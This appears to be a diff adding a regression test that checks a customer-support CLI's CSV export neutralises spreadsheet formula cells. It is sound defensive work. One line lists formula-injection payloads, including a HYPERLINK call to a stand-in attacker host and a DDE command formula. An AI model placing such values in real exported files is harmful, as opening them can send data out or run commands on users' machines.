@@ -54,6 +54,32 @@ def test_contact_and_export_as_an_employee(cli: Cli, desk: dict[str, int]) -> No
         assert_no_address(run, ADDRESSES)
 
 
+def test_export_neutralises_formula_cells(
+    cli: Cli, cli_settings: Settings, db: sessionmaker[Session]
+) -> None:
+    # Issue 12 §8: the CLI export wrote external ids such as =HYPERLINK(...) as they were, and
+    # a spreadsheet opening the file would run them.
+    hostile = ['=HYPERLINK("http://evil.example/?x")', "-2+3", "+1", "=cmd|x!A0"]
+    Path("h.csv").write_text(
+        "external_id,email,country\n"
+        + "".join(
+            f'"{ext.replace(chr(34), chr(34) * 2)}",hostile{i}@example.com,DE\n'
+            for i, ext in enumerate(hostile)
+        )
+    )
+    cli.ok("customers", "import", "h.csv")
+    agent = add_employee(db, "e-sheet", "Sheet S")
+    with db() as s:
+        for n, ext in enumerate(hostile):
+            create_case(
+                s, external_id=f"case-h{n}", customer_id=customer_id(db, ext), assignee_id=agent
+            )
+        s.commit()
+    export = cli.ok("customers", "export", "--as", "employee:e-sheet")
+    rows = list(csv.DictReader(io.StringIO(export.stdout)))
+    assert sorted(r["external_id"] for r in rows) == sorted("'" + ext for ext in hostile)
+
+
 def test_reveal_from_request_to_view(
     cli: Cli, desk: dict[str, int], cli_settings: Settings
 ) -> None:
